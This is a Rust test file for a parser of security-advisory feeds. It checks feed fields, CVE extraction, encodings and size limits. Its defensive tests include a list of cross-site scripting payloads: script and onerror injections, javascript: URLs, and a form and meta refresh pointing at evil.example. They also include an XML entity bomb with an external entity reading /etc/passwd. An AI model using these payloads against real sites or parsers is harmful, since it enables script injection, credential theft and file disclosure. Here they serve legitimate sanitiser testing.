//! A feed of our own in each format, with the habits of real ones, and hostile feeds.

use super::*;
use crate::testing::Flood;

const RSS2: &[u8] = include_bytes!("feeds/rss2.xml");
const RSS091: &[u8] = include_bytes!("feeds/rss091.xml");
const RDF: &[u8] = include_bytes!("feeds/rdf.xml");
const ATOM: &[u8] = include_bytes!("feeds/atom.xml");
const JSON: &[u8] = include_bytes!("feeds/feed.json");
const WINDOWS: &[u8] = include_bytes!("feeds/windows-1252.xml");

fn address() -> Url {
    Url::parse("https://notices.example/feed.xml").unwrap()
}

fn refusal(feed: &[u8]) -> String {
    let feed = super::read(feed, None);
    assert!(feed.entries.is_empty());
    assert_eq!(feed.refusals.len(), 1, "{:?}", feed.refusals);
    feed.refusals[0].to_string()
}

fn rss(items: &str) -> String {
    format!("<rss version=\"2.0\"><channel><title>t</title>{items}</channel></rss>")
}

fn cves(entry: &NewsEntry) -> Vec<String> {
    entry.cves.iter().map(ToString::to_string).collect()
}

#[test]
fn rss_2_is_read_with_its_habits() {
    let feed = super::read(RSS2, Some(&address()));
    assert_eq!(feed.format, Format::Rss);
    assert_eq!(feed.title, "Ward & Co. security notices");
    assert_eq!(feed.link.as_deref(), Some("https://notices.example/"));
    assert_eq!(feed.updated.unwrap().to_string(), "2026-06-04T09:30:00Z");
    let first = &feed.entries[0];
    assert_eq!(first.line, 12);
    assert_eq!(first.id, "notice-1");
    assert_eq!(first.title, "Infusion pumps: fix for CVE-2026-1234 & cve-2026-20002");
    assert_eq!(first.link.as_deref(), Some("https://notices.example/notices/1?a=1&b=2"));
    assert_eq!(
        first.summary,
        "Pumps of the A series answer to anybody.\n\n- Update to 2.1\n- See the help (https://notices.example/help)"
    );
    assert_eq!(first.published.unwrap().to_string(), "2026-06-03T14:05:00Z");
    assert_eq!(first.updated, None);
    assert_eq!(first.authors, ["Jane Roe"]);
    assert_eq!(first.categories, ["Medical devices", "Patches"]);
    assert_eq!(cves(first), ["CVE-2026-1234", "CVE-2026-20002", "CVE-2025-0007"]);
}

#[test]
fn what_is_broken_in_rss_is_mended_or_told() {
    let feed = super::read(RSS2, Some(&address()));
    let second = &feed.entries[1];
    assert_eq!(second.title, "AT&T écrit: &bomb; café");
    assert_eq!((&second.link, second.published), (&None, None));
    assert_eq!(second.authors, ["José—jose@notices.example"]);
    assert_eq!(second.summary, "Unescaped markup – as some write it.");
    assert!(second.id.starts_with("sha256:") && second.id.len() == 39);
    // Two entries under one identifier are both kept, the same entry twice is not.
    let ids: Vec<&str> = feed.entries.iter().map(|entry| entry.id.as_str()).collect();
    assert!(ids[2].starts_with("notice-1#"), "{}", ids[2]);
    assert_eq!(ids[3], "https://notices.example/notices/4");
    assert_eq!(feed.entries[3].link.as_deref(), Some(ids[3]));
    assert_eq!(feed.entries[2].published.unwrap().to_string(), "2026-06-01T00:00:00Z");
    assert_eq!(feed.entries[4].title, "<script>alert(1)</script> written twice over, and no title at all.");
    assert_eq!(feed.entries.len(), 5);
    assert_eq!(feed.refusals.len(), 1);
    assert_eq!(feed.refusals[0].to_string(), "line 46: The entry has neither a title nor a text.");
    assert_eq!(
        feed.warnings,
        [
            "1 date cannot be read and is left out.",
            "1 link leads to no web page and is left out.",
            "2 entries repeat the identifiers of others.",
        ]
    );
}

#[test]
fn identifiers_that_are_made_up_stay_the_same() {
    let ids =
        |feed: &[u8]| super::read(feed, None).entries.into_iter().map(|entry| entry.id).collect::<Vec<_>>();
    let (first, again) = (ids(RSS2), ids(RSS2));
    assert_eq!(first, again);
    // Nor do they change when an entry comes before them.
    let older = "<item><title>a</title></item>";
    let with_newer = rss(&format!("<item><title>b</title></item>{older}"));
    assert_eq!(ids(rss(older).as_bytes())[0], ids(with_newer.as_bytes())[1]);
    assert_eq!(ids(rss(older).as_bytes()), ["sha256:49a1af1b982d48d444434b4fdd5a935b"]);
    let thrice =
        ["a", "b", "b", "a"].map(|title| format!("<item><guid>g</guid><title>{title}</title></item>"));
    assert_eq!(ids(rss(&thrice.concat()).as_bytes()).len(), 2);
    let long = rss(&format!("<item><guid>{}</guid><title>b</title></item>", "x".repeat(100_000)));
    assert!(ids(long.as_bytes())[0].len() < 60);
}

#[test]
fn older_and_other_rss_is_read() {
    let feed = super::read(RSS091, None);
    assert_eq!((feed.title.as_str(), feed.entries.len()), ("Old news", 2));
    assert_eq!(feed.entries[0].id, "http://old.example/y2k");
    assert_eq!(feed.entries[0].summary, "Nothing fell.");
    let feed = super::read(RDF, None);
    assert_eq!((feed.format, feed.title.as_str()), (Format::Rdf, "Notes of a CERT"));
    assert_eq!(feed.updated, feed.entries[0].published);
    assert_eq!(feed.entries[0].id, "https://rdf.example/1");
    assert_eq!(
        (&feed.entries[0].authors[0][..], &feed.entries[0].categories[0][..]),
        ("A. N. Other", "Notes")
    );
    assert_eq!(cves(&feed.entries[0]), ["CVE-2026-0101"]);
    for version in ["", " version=\"0.93\"", " version=\"3\""] {
        let feed = rss("<item><title>a</title></item>").replace(" version=\"2.0\"", version);
        assert_eq!(super::read(feed.as_bytes(), None).entries.len(), 1, "{version}");
    }
}

#[test]
fn atom_is_read() {
    let feed = super::read(ATOM, None);
    assert_eq!((feed.format, feed.title.as_str()), (Format::Atom, "Advisories & alerts"));
    assert_eq!(feed.link.as_deref(), Some("https://atom.example/"));
    let first = &feed.entries[0];
    assert_eq!(first.id, "tag:atom.example,2026:1");
    assert_eq!(first.title, "Use of Option<T> in a <script> engine");
    assert_eq!(first.link.as_deref(), Some("https://atom.example/feeds/2026/1.html"));
    assert_eq!(first.summary, "Read more (https://atom.example/feeds/2026/1.html#more): 1 < 2.");
    assert_eq!(first.published.unwrap().to_string(), "2026-05-31T22:00:00Z");
    assert_eq!(first.updated.unwrap().to_string(), "2026-06-02T00:00:00Z");
    assert_eq!((&first.authors[0][..], &first.categories[0][..]), ("The advisory team", "Rust"));
    let second = &feed.entries[1];
    assert_eq!(second.title, "Kept all the same");
    assert_eq!(second.summary, "Fixes CVE-2026-4321.");
    assert_eq!(second.id, "tag:atom.example,2026:2");
    assert_eq!(second.authors, ["only@atom.example"]);
    assert!(feed.refusals.is_empty() && feed.warnings.is_empty());
    // The same with a prefix for Atom.
    let prefixed = String::from_utf8_lossy(ATOM)
        .replace("xmlns=\"http://www.w3.org/2005/Atom\"", "xmlns:a=\"http://www.w3.org/2005/Atom\"");
    let prefixed =
        ["feed", "title", "link", "entry", "id", "author", "name", "updated", "published", "content"]
            .iter()
            .fold(prefixed, |feed, name| {
                feed.replace(&format!("<{name}"), &format!("<a:{name}"))
                    .replace(&format!("</{name}"), &format!("</a:{name}"))
            });
    assert_eq!(super::read(prefixed.as_bytes(), None).entries[0], *first);
}

#[test]
fn a_json_feed_is_read() {
    let feed = super::read(JSON, None);
    assert_eq!((feed.format, feed.title.as_str()), (Format::Json, "Vulnerability notes"));
    assert_eq!(feed.link.as_deref(), Some("https://json.example/"));
    let [first, second] = feed.entries.as_slice() else { panic!() };
    assert_eq!((first.id.as_str(), first.title.as_str()), ("7", "CVE-2026-0700 in a <viewer>"));
    assert_eq!(
        (first.summary.as_str(), first.categories.as_slice()),
        ("Open nothing.", ["dicom".to_owned()].as_slice())
    );
    assert_eq!((&first.authors, cves(first)), (&vec!["Ada".to_owned()], vec!["CVE-2026-0700".to_owned()]));
    assert_eq!(second.link.as_deref(), Some("https://json.example/8"));
    assert_eq!(
        (second.title.as_str(), second.summary.as_str()),
        ("Plain <b>text</b> in two lines", "Plain <b>text</b>\nin two lines")
    );
    assert_eq!(feed.refusals.len(), 1);
    assert_eq!((feed.refusals[0].line, &feed.refusals[0].reason[..7]), (11, "title: "));
    let nobody = String::from_utf8_lossy(JSON).replace("\"author\": {\"name\": \"Ada\"}", "\"author\": {}");
    assert_eq!(super::read(nobody.as_bytes(), None).entries[0].authors, ["The team"]);
}

#[test]
fn other_encodings_are_read() {
    let feed = super::read(WINDOWS, None);
    assert_eq!((feed.title.as_str(), feed.entries[0].title.as_str()), ("Café – St Mary’s", "“Quoted” €5"));
    // The declaration is missing as often as not.
    let silent = &WINDOWS[WINDOWS.iter().position(|&byte| byte == b'\n').unwrap()..];
    assert_eq!(super::read(silent, None).title, feed.title);
}

#[test]
fn nothing_of_hostile_markup_survives() {
    for html in [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<svg/onload=alert(1)>",
        "<svg><animate onbegin=alert(1)></svg>",
        "<style>@import 'https://evil.example/x.css'</style>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
        "<base href=\"https://evil.example/\">",
        "<iframe srcdoc=\"<script>1</script>\"></iframe>",
        "<object data=\"x.swf\"></object><embed src=x>",
        "<form action=\"https://evil.example/\"><input name=password></form>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>alert(1)//<</script>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<template><script>alert(1)</script></template>",
    ] {
        let escaped = html.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
        let twice = escaped.replace('&', "&amp;");
        let numbered = html.chars().fold(String::new(), |text, c| text + &format!("&#{};", u32::from(c)));
        for (written, decoded_twice) in
            [(&escaped, false), (&numbered, false), (&html.to_owned(), false), (&twice, true)]
        {
            let item = format!("<item><title>{written}t</title><description>{written}d</description></item>");
            let feed = super::read(rss(&item).as_bytes(), None);
            let Some(entry) = feed.entries.first() else { continue };
            for text in [&entry.title, &entry.summary] {
                if !decoded_twice {
                    for sign in [
                        "<script",
                        "<img",
                        "<a ",
                        "onerror=alert(1)>",
                        "<svg",
                        "<style",
                        "<meta",
                        "<iframe",
                        "<base",
                        "<form",
                    ] {
                        assert!(!text.contains(sign), "{html} as {written}: {text}");
                    }
                }
                // Whatever a text quotes, it stays a quotation where an analyst pastes it as Markdown.
                let page = crate::markdown::to_html(text).to_string().to_lowercase();
                for sign in [
                    "<script",
                    "<img",
                    "<svg",
                    "<style",
                    "<meta",
                    "<iframe",
                    "<a href=\"javascript",
                    "<a href=\"data",
                ] {
                    assert!(!page.contains(sign), "{html}: {page}");
                }
            }
        }
    }
}

#[test]
fn entities_of_a_document_are_never_expanded() {
    let mut bomb = "<!DOCTYPE rss [<!ENTITY a \"aaaaaaaaaa\">".to_owned();
    for (name, before) in ('b'..='z').zip('a'..) {
        let ten = format!("&{before};").repeat(10);
        bomb += &["<!ENTITY ", &name.to_string(), " \"", &ten, "\">"].concat();
    }
    bomb.push_str("<!ENTITY file SYSTEM \"file:///etc/passwd\">]>");
    bomb.push_str(&rss("<item><title>x &z; &file; y</title></item>"));
    assert_eq!(super::read(bomb.as_bytes(), None).entries[0].title, "x &z; &file; y");
}

#[test]
fn nesting_of_200_000_levels_costs_that_part_or_the_rest() {
    let deep = format!("{}{}", "<a>".repeat(200_000), "</a>".repeat(200_000));
    for item in [
        format!("<item><title>a</title>{deep}</item>"),
        format!("<item><title>a</title><description>{deep}</description></item>"),
        format!("<item><title>a</title></item>{deep}"),
        format!("<item><title>a</title><author>{deep}</author></item>"),
    ] {
        let feed = super::read(rss(&item).as_bytes(), None);
        assert!(feed.entries.iter().all(|entry| entry.title == "a" && entry.summary.len() < 8));
        assert!(!feed.entries.is_empty() || !feed.refusals.is_empty());
    }
    assert!(refusal("<a>".repeat(200_000).as_bytes()).contains("no feed"));
    let based = "<item xml:base='bbbbbbbb/'>".repeat(100_000);
    assert!(super::read(rss(&based).as_bytes(), Some(&address())).entries.is_empty());
    let json =
        format!("{{\"version\":\"https://jsonfeed.org/version/1\",\"items\":[{}]}}", "[".repeat(200_000));
    assert_eq!(super::read(json.as_bytes(), None).refusals.len(), 1);
}

#[test]
fn what_is_too_large_or_too_many_is_told() {
    assert!(
        super::read(Flood::of(b'<', 120_000_000), None).refusals[0].reason.contains("larger than the 8 MB")
    );
    let many = rss(&"<item><title>a</title></item>".repeat(1_500));
    let feed = super::read(many.as_bytes(), None);
    assert_eq!(feed.entries.len(), 1);
    assert_eq!(
        feed.warnings,
        ["999 entries repeat the identifiers of others.", "500 more than the 1000 entries that are read."]
    );
    let json =
        format!("{{\"version\":\"https://jsonfeed.org/version/1\",\"items\":[{}1]}}", "1,".repeat(1_000_000));
    assert_eq!(super::read(json.as_bytes(), None).refusals.len(), MOST_ENTRIES);
    let long = rss(&format!("<item><title>{}</title></item>", "é".repeat(3_000_000)));
    assert!(super::read(long.as_bytes(), None).entries[0].title.len() < 70_000);
    let names = rss(&format!(
        "<item><title>a</title>{}</item>",
        (0..5_000).map(|n| ["<category>", &n.to_string(), "</category>"].concat()).collect::<String>()
    ));
    assert_eq!(super::read(names.as_bytes(), None).entries[0].categories.len(), 64);
}

#[test]
fn a_feed_that_breaks_off_keeps_what_came_before() {
    let cut = &RSS2[..1_950];
    let feed = super::read(cut, None);
    assert_eq!((feed.entries.len(), feed.refusals.len()), (2, 1));
    assert!(feed.refusals[0].line > 30, "{}", feed.refusals[0]);
    let crossed = rss("<item><title>a</title></item><item><title>b</link></item>");
    let feed = super::read(crossed.as_bytes(), None);
    assert_eq!((feed.entries.len(), feed.refusals.len()), (1, 1));
}

#[test]
fn what_is_no_feed_is_refused() {
    for (text, told) in [
        ("", "it ends"),
        ("hello", "it begins with text"),
        ("<html><body>Gone</body></html>", "a web page"),
        ("<opml/>", "“opml”"),
        ("<rss", "broken here"),
        ("{}", "JSON Feed"),
        ("{\"type\":\"bundle\",\"objects\":[]}", "JSON Feed"),
        ("{\"version\":\"https://jsonfeed.org/version/2\",\"items\":[]}", "JSON Feed"),
        ("[]", "it begins with text"),
        ("\0\0\0", "it begins with text"),
    ] {
        assert!(refusal(text.as_bytes()).contains(told), "{text}: {}", refusal(text.as_bytes()));
    }
    let empty = super::read(rss("").as_bytes(), None);
    assert_eq!(empty.warnings, ["The feed has no entries."]);
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(64))]

    #[test]
    fn random_bytes_and_cuts_never_panic(bytes: Vec<u8>, end in 0..4_000_usize, place in 0..4_000_usize, byte: u8) {
        super::read(&bytes[..], None);
        for feed in [RSS2, RSS091, RDF, ATOM, JSON, WINDOWS] {
            super::read(&feed[..end.min(feed.len())], Some(&address()));
            let mut broken = feed.to_vec();
            let length = broken.len();
            broken[place % length] = byte;
            let read = super::read(&broken[..], Some(&address()));
            let ids: std::collections::HashSet<_> = read.entries.iter().map(|entry| &entry.id).collect();
            proptest::prop_assert_eq!(ids.len(), read.entries.len());
        }
    }
}
